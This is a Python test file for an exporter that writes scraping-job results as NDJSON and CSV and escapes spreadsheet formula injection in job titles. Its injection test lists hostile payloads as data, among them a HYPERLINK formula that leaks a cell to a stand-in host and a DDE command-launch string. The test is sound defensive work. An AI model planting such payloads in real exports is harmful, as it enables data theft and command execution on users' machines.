"""Jobs as NDJSON and CSV: whole, and harmless in a spreadsheet."""

import csv
import io
import json

import pytest

from api.results.lines import COLUMNS, csv_lines, ndjson
from farm.jobs.errors import DnsError
from farm.jobs.models import Job
from farm.jobs.views import JobView
from tests.support.builders import MemoryFarm
from tests.support.results import a_running_job, failed, succeeded


def rows(*jobs: Job) -> list[dict[str, str]]:
    text = b"".join(csv_lines(jobs)).decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_a_line_is_the_job_as_it_is_read(farm: MemoryFarm) -> None:
    views = [
        JobView.of(succeeded(farm, a_running_job(), "one\ntwo\u2028")),
        JobView.of(farm.submit()),
    ]
    lines = b"".join(ndjson(views)).decode().split("\n")
    assert lines.pop() == ""
    assert [json.loads(line) for line in lines] == [view.model_dump(mode="json") for view in views]


def test_a_row_says_what_came_of_the_job(farm: MemoryFarm) -> None:
    job = succeeded(farm, a_running_job(url="http://shop.test/a?b=1", tags=["x", "y"]), "A shop")
    (row,) = rows(job)
    assert list(row) == list(COLUMNS)
    assert row | {"sha256": ""} == {
        "id": job.id,
        "kind": "screenshot",
        "state": "succeeded",
        "url": "http://shop.test/a?b=1",
        "final_url": "http://shop.test/a?b=1",
        "http_status": "200",
        "title": "A shop",
        "error": "",
        "message": "",
        "attempt": "1",
        "created_at": "2026-01-01T12:00:00.000Z",
        "started_at": "2026-01-01T12:00:00.000Z",
        "finished_at": "2026-01-01T12:00:00.000Z",
        "file": f"files/shop.test-a-b-1-{job.id[:12]}.screenshot.png",
        "media_type": "image/png",
        "size_bytes": "264",
        "sha256": "",
        "tags": '["x", "y"]',
        "metadata": "",
        "warnings": "",
    }


def test_a_row_of_a_failure_says_its_cause(farm: MemoryFarm) -> None:
    lost, waiting = rows(failed(a_running_job(), DnsError('No "host",\r\nnone.')), farm.submit())
    assert (lost["state"], lost["error"], lost["file"]) == ("failed", "dns_error", "")
    assert lost["message"] == 'No "host",\r\nnone.'
    assert (waiting["state"], waiting["started_at"], waiting["message"]) == ("queued", "", "")


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.test/?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\n@x",
    ],
)
def test_a_title_that_a_spreadsheet_would_run_is_text(farm: MemoryFarm, title: str) -> None:
    (row,) = rows(succeeded(farm, a_running_job(tags=["=1"], metadata={"=a": "=b"}), title))
    assert row["title"] == f"'{title}"
    assert {value[0] for value in row.values() if value} & set("=+-@\t\r\n \u00a0\uff1d") == set()


@pytest.mark.parametrize("title", ["", "a=b", "日本語 Ünï", "'=", "a\0b", "  ", "1-2", "🙂,;\t\"'"])
def test_any_other_title_is_itself(farm: MemoryFarm, title: str) -> None:
    (row,) = rows(succeeded(farm, a_running_job(), title))
    assert row["title"] == title.replace("\0", "\ufffd")
